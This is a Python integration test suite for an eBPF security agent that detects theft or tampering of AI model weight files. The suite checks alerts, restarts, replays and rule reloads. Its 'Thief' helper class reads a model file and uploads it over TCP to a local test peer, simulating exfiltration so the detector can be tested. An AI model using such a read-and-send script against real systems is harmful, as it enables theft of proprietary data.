"""The whole agent, live on this kernel: what a user and an operator would notice."""

import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from support.agent_process import BINARY, RULES, Agent, essence, replay, run_command, run_verb  # noqa: E402
from support.peer_host import PeerHost  # noqa: E402

MODEL_BYTES = 48 << 20


def bpf_objects():
    """Ids of every program and link in the kernel."""
    ids = set()
    for kind in ("prog", "link"):
        listed = subprocess.run(["/usr/sbin/bpftool", "-j", kind, "list"], capture_output=True, text=True, check=True)
        ids |= {(kind, one["id"]) for one in json.loads(listed.stdout or "[]")}
    return ids

class Thief:
    """A process of its own that does one step each time it is told to, so that a test can act in between."""

    SCRIPT = """
import socket, sys
data = None
for line in sys.stdin:
    step, _, rest = line.strip().partition(" ")
    if step == "read":
        with open(rest, "rb") as f: data = f.read()
    elif step == "send":
        host, port = rest.split()
        with socket.create_connection((host, int(port))) as s:
            for at in range(0, len(data), 1 << 20): s.sendall(data[at:at + (1 << 20)])
    elif step == "send_and_stay":
        host, port = rest.split()
        kept = socket.create_connection((host, int(port)))
        kept.sendall(data)
    print("done", flush=True)
"""

    def __enter__(self):
        self.process = subprocess.Popen([sys.executable, "-c", self.SCRIPT], stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, text=True)
        return self

    def do(self, step):
        self.process.stdin.write(step + "\n")
        self.process.stdin.flush()
        assert self.process.stdout.readline().strip() == "done"

    def __exit__(self, *unused):
        self.process.communicate()


class AgentTest(unittest.TestCase):

    def setUp(self):
        if os.geteuid() != 0 or not os.path.exists("/sys/kernel/btf/vmlinux"):
            self.skipTest("needs root and a kernel with BTF")
        self.dir = tempfile.mkdtemp(prefix="tensorwarden-test-", dir="/var/tmp")
        self.addCleanup(shutil.rmtree, self.dir)
        os.mkdir(os.path.join(self.dir, "models"))
        self.model = os.path.join(self.dir, "models", "weights.safetensors")
        self.write_model(self.model)
        self.config = self.write("config.yaml", f"""
state_dir: {self.dir}/state
discover: false
assets:
  - name: weights
    class: model
    paths: ["{self.dir}/models/**"]
""")

    def write(self, name, text):
        path = os.path.join(self.dir, name)
        with open(path, "w", encoding="utf-8") as file:
            file.write(text)
        return path

    @staticmethod
    def write_model(path):
        header = json.dumps({"w": {"dtype": "U8", "shape": [MODEL_BYTES], "data_offsets": [0, MODEL_BYTES]}}).encode()
        header += b" " * (-len(header) % 8)
        with open(path, "wb") as file:
            file.write(len(header).to_bytes(8, "little") + header + os.urandom(MODEL_BYTES))
        os.sync()

    def alert_of(self, agent, matches=lambda alert: True):
        """The first opened alert that `matches`; fails with what came instead."""
        alert = agent.wait_open(matches)
        self.assertIsNotNone(alert, [a["summary"] for a in agent.opened()] + agent.errors[-3:])
        return alert

    def start(self, *flags, rules=RULES):
        agent = Agent.launch(self.config, *flags, rules=rules).wait_ready()
        self.addCleanup(agent.stop)
        return agent

    def wait_saved_after(self, since):
        """The agent saves within 100 ms of a new carrier: waits for a state file that is newer than `since`."""
        state = os.path.join(self.dir, "state", "state")
        deadline = time.monotonic() + 10
        while not (os.path.exists(state) and os.stat(state).st_mtime > since):
            self.assertLess(time.monotonic(), deadline, "the state was not saved")
            time.sleep(0.01)

    def test_an_upload_is_alerted_before_half_of_the_model_has_left(self):
        agent = self.start()
        with PeerHost("tw-test-up") as peer, Thief() as thief:
            thief.do(f"read {self.model}")
            thief.do(f"send {peer.address} {peer.port}")
            self.assertEqual(peer.received(), os.path.getsize(self.model))
            alert = self.alert_of(agent)
            self.assertEqual(alert["actor"]["process"]["pid"], thief.process.pid)
            self.assertEqual(alert["asset"]["path"], self.model)
            self.assertLess(alert["measure"]["value"], MODEL_BYTES / 2)

    def test_a_model_read_before_kill_9_is_followed_after_a_restart(self):
        first = self.start()
        with PeerHost("tw-test-kill") as peer, Thief() as thief:
            read_at = time.time()
            thief.do(f"read {self.model}")
            self.wait_saved_after(read_at)
            first.kill()
            second = self.start()
            thief.do(f"send {peer.address} {peer.port}")
            alert = self.alert_of(second, lambda a: a.get("destination", {}).get("address") == peer.address)
            self.assertEqual(alert["actor"]["process"]["pid"], thief.process.pid)

    def test_a_copy_made_before_a_restart_is_still_the_model(self):
        first = self.start()
        copied_at = time.time()
        copy = os.path.join(self.dir, "notes.txt")
        subprocess.run(["cp", self.model, copy], check=True)
        self.wait_saved_after(copied_at)
        self.assertEqual(first.stop(), 0)
        second = self.start()
        with PeerHost("tw-test-copy") as peer, Thief() as thief:
            thief.do(f"read {copy}")
            thief.do(f"send {peer.address} {peer.port}")
            self.alert_of(second, lambda a: a.get("destination", {}).get("address") == peer.address)

    def test_nothing_stays_attached_after_sigterm_or_kill_9(self):
        before = bpf_objects()
        agent = self.start()
        self.assertGreater(len(bpf_objects() - before), 10)
        self.assertEqual(agent.stop(), 0)
        self.wait_gone(before)
        agent = self.start()
        agent.kill()
        self.wait_gone(before)

    def wait_gone(self, before):
        """The kernel frees programs after a grace period."""
        deadline = time.monotonic() + 10
        while left := bpf_objects() - before:
            self.assertLess(time.monotonic(), deadline, f"still there: {left}")
            time.sleep(0.05)

    def test_a_replay_gives_the_same_alerts_with_the_same_ids(self):
        capture = os.path.join(self.dir, "capture")
        agent = self.start("--record", capture)
        with open(self.model, "r+b") as model:
            model.seek(1 << 20)
            model.write(b"flipped")
        self.alert_of(agent, lambda a: a.get("asset", {}).get("path") == self.model)
        self.assertEqual(agent.stop(), 0)
        first, second = (replay(capture, self.config) for _ in range(2))
        self.assertEqual(essence(first), essence(agent.alerts))
        self.assertEqual(first, second)

    def upload(self, agent, peer, thief):
        """Read and send the model; the evidence of the alert about it."""
        thief.do(f"read {self.model}")
        thief.do(f"send_and_stay {peer.address} {peer.port}")
        alert = self.alert_of(agent, lambda a: a.get("destination", {}).get("address") == peer.address)
        update = agent.wait_evidence(alert["id"])
        self.assertIsNotNone(update, "no evidence came")
        self.assertEqual(update["activity"], "update")
        return update["evidence"]

    def test_a_copy_to_a_mount_that_leads_off_the_host_is_alerted_and_replayed(self):
        copier = os.path.join(os.path.dirname(BINARY), "tests", "triggers", "copy_to_fuse")
        if not os.path.exists(copier) or not os.path.exists("/dev/fuse"):
            self.skipTest("needs /dev/fuse and the live tests' triggers")
        capture = os.path.join(self.dir, "capture")
        bucket = os.path.join(self.dir, "bucket")
        os.mkdir(bucket)
        agent = self.start("--record", capture)
        subprocess.run(["cp", self.model, os.path.join(self.dir, "beside")], check=True)  # this host's own disk
        subprocess.run([copier, self.model, str(MODEL_BYTES), bucket], check=True, stdin=subprocess.DEVNULL,
                       stdout=subprocess.DEVNULL)
        alert = self.alert_of(agent)
        self.assertEqual(alert["rule"], "Guarded files are copied to a mount that leads off the host")
        self.assertEqual(alert["destination"]["address"], "bucket#secret")
        self.assertEqual(alert["destination"]["class"], "mount")
        self.assertEqual(agent.stop(), 0)
        self.assertEqual(len(agent.opened()), 1, "the copy beside it is none")
        self.assertEqual(essence(replay(capture, self.config)), essence(agent.alerts))

    def test_an_alert_names_the_call_and_the_connection_and_a_replay_has_the_same(self):
        capture = os.path.join(self.dir, "capture")
        agent = self.start("--record", capture)
        with PeerHost("tw-test-ev") as peer, Thief() as thief:
            evidence = self.upload(agent, peer, thief)
        self.assertNotIn("missing", evidence)
        innermost = evidence["stack"][0]
        self.assertIn("libc.so", innermost["module"])
        self.assertIn("send", innermost["function"])
        self.assertLess(innermost["function_offset"], 4096)
        peers = [held.get("peer") for held in evidence["descriptors"] if held["type"] == "tcp"]
        self.assertIn(f"{peer.address}:{peer.port}", peers)
        self.assertEqual(agent.stop(), 0)
        self.assertEqual(essence(replay(capture, self.config)), essence(agent.alerts))

    def test_without_the_helper_the_stack_has_modules_and_the_alert_comes_all_the_same(self):
        alone = os.path.join(self.dir, "alone")
        os.mkdir(alone)
        shutil.copy(BINARY, alone)
        command = [os.path.join(alone, os.path.basename(BINARY)), *run_command(self.config)[1:]]
        agent = Agent(subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)).wait_ready()
        self.addCleanup(agent.stop)
        with PeerHost("tw-test-alone") as peer, Thief() as thief:
            evidence = self.upload(agent, peer, thief)
        self.assertIn("not installed", evidence["missing"])
        self.assertIn("libc.so", evidence["stack"][0]["module"])
        self.assertNotIn("function", evidence["stack"][0])

    def test_a_change_of_weights_names_the_call_that_wrote(self):
        agent = self.start()
        script = f"f = open({self.model!r}, 'r+b', buffering=0); f.seek(1 << 20); f.write(b'x' * 9000); input()"
        with subprocess.Popen([sys.executable, "-c", script], stdin=subprocess.PIPE) as writer:
            alert = self.alert_of(agent, lambda a: a.get("asset", {}).get("path") == self.model)
            update = agent.wait_evidence(alert["id"])
            self.assertIn("write", update["evidence"]["stack"][0]["function"])
            self.assertIn(self.model, [held.get("path") for held in update["evidence"]["descriptors"]])
            writer.communicate(b"\n")

    def counters_with_rule(self, condition):
        """The agent's counters after opens, connects and queries of others, with one rule alone."""
        rules = self.write("rules.yaml", f"- rule: r\n  desc: d\n  condition: {condition}\n  output: o\n  priority: NOTICE\n")
        stats = os.path.join(self.dir, "stats.json")
        script = """
import socket
server = socket.create_server(("127.0.0.1", 0))
for _ in range(50):
    open("/etc/passwd").close()
    socket.create_connection(server.getsockname()).close()
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes(12) + b"\\1a\\0\\0\\1\\0\\1", ("127.0.0.1", 53))
"""
        agent = self.start("--stats", stats, rules=rules)
        subprocess.run([sys.executable, "-c", script], check=True)
        self.assertEqual(agent.stop(), 0)
        with open(stats, encoding="utf-8") as file:
            return json.load(file)

    def test_with_rules_on_files_alone_nothing_of_the_network_is_made(self):
        stats = self.counters_with_rule("evt.type = file_read and asset.class = model")
        self.assertEqual(set(stats["asked"].values()), {False})
        self.assertEqual(stats["lost"]["file_open"]["produced"], 0)
        self.assertEqual(stats["lost"]["dns_query"]["produced"], 0)
        self.assertLess(stats["lost"]["socket"]["produced"], 10, "listens alone")
        self.assertGreater(stats["lost"]["process_exec"]["produced"], 0)

    def test_a_rule_on_connects_has_them_made_and_nothing_else(self):
        stats = self.counters_with_rule("evt.type = connect and fd.sport = 9")
        self.assertEqual([kind for kind, asked in stats["asked"].items() if asked], ["socket"])
        self.assertGreaterEqual(stats["lost"]["socket"]["produced"], 100)
        self.assertEqual(stats["lost"]["file_open"]["produced"], 0)
        self.assertEqual(stats["lost"]["dns_query"]["produced"], 0)

    def reload(self, agent, seconds=10):
        """SIGHUP, and what the agent says of it."""
        said = len(agent.errors)
        agent.process.send_signal(signal.SIGHUP)
        line = agent.wait_error(lambda text: "rules reloaded" in text or "not reloaded" in text, said, seconds)
        self.assertIsNotNone(line, agent.last_errors())
        return line

    def test_no_event_is_lost_and_no_count_over_reloads_under_load(self):
        kinds, each = 20, 60
        marked = "".join(f"""
- rule: Marked {kind}
  desc: d
  condition: evt.type = execve and proc.args = marked-{kind}
  output: "%proc.args"
  priority: NOTICE
""" for kind in range(kinds))
        counted = f"""
- rule: All of them
  desc: d
  condition: evt.type = execve and proc.args startswith marked-
  aggregate: {{count: true, window: 1h, over: {kinds * each - 1}}}
  output: all
  priority: NOTICE
"""
        rules = self.write("rules.yaml", marked + counted)
        agent = self.start("--stats", os.path.join(self.dir, "stats.json"), rules=rules)
        load = subprocess.Popen(["/bin/sh", "-c", f"for i in $(seq {each}); do for k in $(seq 0 {kinds - 1}); do "
                                 "/bin/true marked-$k; done; done"])
        reloads = 0
        while load.poll() is None:
            # Others come, go and change around them; the rules themselves stay what they are.
            other = f"- rule: Other\n  desc: d\n  condition: proc.name = x{reloads}\n  output: o\n  priority: DEBUG\n"
            self.write("rules.yaml", (other if reloads % 2 else "") + marked + counted)
            self.assertIn("rules reloaded", self.reload(agent))
            reloads += 1
        self.assertGreater(reloads, 5)
        self.assertIsNotNone(agent.wait_open(lambda alert: alert["rule"] == "All of them"), "a count was dropped")
        self.assertEqual(agent.stop(), 0)
        names = [alert["rule"] for alert in agent.opened()]
        self.assertEqual({names.count(f"Marked {kind}") for kind in range(kinds)}, {each})
        self.assertEqual(names.count("All of them"), 1)
        with open(os.path.join(self.dir, "stats.json"), encoding="utf-8") as file:
            stats = json.load(file)
        self.assertEqual(stats["rules"]["reloads"], reloads)
        self.assertEqual(sum(row["ring_full"] for row in stats["lost"].values()), 0)

    def test_rules_with_an_error_are_refused_by_place_and_the_former_ones_run_on(self):
        good = "- rule: Marked\n  desc: d\n  condition: evt.type = execve and proc.args = marked\n  output: o\n  priority: NOTICE\n"
        told = """
- rule: Not reloaded
  desc: d
  condition: finding.kind = self and finding.what = rules
  output: "%finding.evidence"
  priority: WARNING
"""
        rules = self.write("rules.yaml", good + told)
        capture = os.path.join(self.dir, "capture")
        agent = self.start("--record", capture, rules=rules)
        self.write("rules.yaml", good.replace("proc.args", "proc.argz") + told)
        line = self.reload(agent)
        self.assertIn(f"{rules}:3:", line)
        self.assertIn("proc.args", line)
        subprocess.run(["/bin/true", "marked"], check=True)
        self.alert_of(agent, lambda alert: alert["rule"] == "Marked")
        refused = self.alert_of(agent, lambda alert: alert["rule"] == "Not reloaded")
        self.assertIn(f"{rules}:3:", refused["output"])
        # Mended, and with a rule more, which asks for what was not made before.
        self.write("rules.yaml", good + told + "- rule: Opened\n  desc: d\n  condition: evt.type = open and fd.name = "
                   f"{self.dir}/opened\n  output: o\n  priority: NOTICE\n")
        self.assertIn("rules reloaded", self.reload(agent))
        with open(self.write("opened", ""), encoding="utf-8"):
            self.alert_of(agent, lambda alert: alert["rule"] == "Opened")
        self.assertEqual(agent.stop(), 0)
        again = run_verb("replay", capture, "--config", self.config, "--rules", rules, "--output", "json")
        self.assertEqual(again.returncode, 0, again.stderr)
        alerts = [json.loads(line) for line in again.stdout.splitlines()]
        self.assertEqual(essence(alerts), essence(agent.alerts))

    def test_users_have_their_names_also_new_ones_and_in_a_replay(self):
        passwd = self.write("passwd", "root:x:0:0:root:/root:/bin/sh\ntw-eve:x:54321:54321::/:/bin/sh\n")
        rules = self.write("rules.yaml", "- rule: Named\n  desc: d\n  condition: evt.type = execve and user.name startswith tw-\n"
                           "  output: '%user.name'\n  priority: NOTICE\n")
        capture = os.path.join(self.dir, "capture")
        hide = ["unshare", "-m", "sh", "-c", f"mount --bind {passwd} /etc/passwd && exec \"$@\"", "sh"]
        agent = Agent(subprocess.Popen([*hide, *run_command(self.config, "--record", capture, rules=rules)],
                                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)).wait_ready()
        self.addCleanup(agent.stop)
        subprocess.run(["setpriv", "--reuid", "54321", "--clear-groups", "/bin/true"], check=True)
        alert = self.alert_of(agent, lambda a: a["output"] == "tw-eve")
        self.assertEqual(alert["actor"]["user"], "tw-eve")
        with open(passwd, "a", encoding="utf-8") as file:
            file.write("tw-new:x:54322:54322::/:/bin/sh\n")
        deadline = time.monotonic() + 20  # the files are looked at once a second
        while not any(a["output"] == "tw-new" for a in agent.alerts) and time.monotonic() < deadline:
            subprocess.run(["setpriv", "--reuid", "54322", "--clear-groups", "/bin/true"], check=True)
        self.alert_of(agent, lambda a: a["output"] == "tw-new")
        self.assertEqual(agent.stop(), 0)
        again = run_verb("replay", capture, "--config", self.config, "--rules", rules, "--output", "json")
        self.assertEqual(essence([json.loads(line) for line in again.stdout.splitlines()]), essence(agent.alerts))

    def test_a_second_agent_on_the_same_state_is_refused(self):
        self.start()
        second = run_verb("run", "--config", self.config, "--rules", RULES, "--duration", "5s")
        self.assertNotEqual(second.returncode, 0)
        self.assertIn("another agent", second.stderr)

    def test_an_empty_config_finds_a_model_that_a_process_holds(self):
        empty = self.write("empty.yaml", f"state_dir: {self.dir}/state2\n")
        with open(self.model, "rb"):
            self.config = empty
            agent = self.start()
        with open(self.model, "r+b") as model:
            model.seek(4096)
            model.write(b"flipped")
        self.alert_of(agent, lambda a: a.get("asset", {}).get("path") == self.model)


class StartErrorTest(unittest.TestCase):
    """Each is one line on stderr that names the place and the fix, with an exit status that is not 0."""

    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="tensorwarden-test-", dir="/var/tmp")
        self.addCleanup(shutil.rmtree, self.dir)
        self.config = os.path.join(self.dir, "config.yaml")
        with open(self.config, "w", encoding="utf-8") as file:
            file.write(f"state_dir: {self.dir}/state\n")

    def assert_one_line(self, result, *words):
        self.assertNotEqual(result.returncode, 0)
        lines = result.stderr.strip().splitlines()
        self.assertEqual(len(lines), 1, result.stderr)
        for word in words:
            self.assertIn(word, lines[0])

    def run_hiding(self, path):
        """Runs the agent in a mount namespace of its own, where `path` is an empty directory."""
        return run_verb("run", "--config", self.config, "--rules", RULES, "--duration", "5s",
                        prefix=("unshare", "-m", "sh", "-c", f'mount -t tmpfs none {path} && exec "$@"', "sh"))

    def test_no_btf(self):
        self.assert_one_line(self.run_hiding("/sys/kernel/btf"), "/sys/kernel/btf/vmlinux", "CONFIG_DEBUG_INFO_BTF")

    def test_no_tracefs(self):
        self.assert_one_line(self.run_hiding("/sys/kernel/tracing"), "tracefs", "mount -t tracefs")

    def test_no_cap_bpf(self):
        result = run_verb("run", "--config", self.config, "--rules", RULES, "--duration", "5s",
                          prefix=("setpriv", "--bounding-set=-bpf,-sys_admin", "--inh-caps=-bpf,-sys_admin"))
        self.assert_one_line(result, "CAP_BPF", "root")

    def test_counters_never_replace_a_device(self):
        node = os.path.join(self.dir, "node")
        os.mkfifo(node)
        result = run_verb("run", "--config", self.config, "--rules", RULES, "--duration", "5s", "--stats", node)
        self.assertNotEqual(result.returncode, 0)
        self.assertIn(node, result.stderr)
        self.assertTrue(stat.S_ISFIFO(os.stat(node).st_mode))

    def test_an_unknown_config_key_names_its_place_and_the_nearest_key(self):
        with open(self.config, "a", encoding="utf-8") as file:
            file.write("assetts: []\n")
        self.assert_one_line(run_verb("run", "--config", self.config), f"{self.config}:2:1", "assets")

    def test_a_rule_with_a_typo_names_its_place_and_the_nearest_field(self):
        rules = os.path.join(self.dir, "rules.yaml")
        with open(rules, "w", encoding="utf-8") as file:
            file.write("- rule: r\n  desc: d\n  condition: proc.nmae = curl\n  output: o\n  priority: NOTICE\n")
        self.assert_one_line(run_verb("run", "--config", self.config, "--rules", rules), f"{rules}:3:", "proc.name")


if __name__ == "__main__":
    unittest.main(verbosity=2)
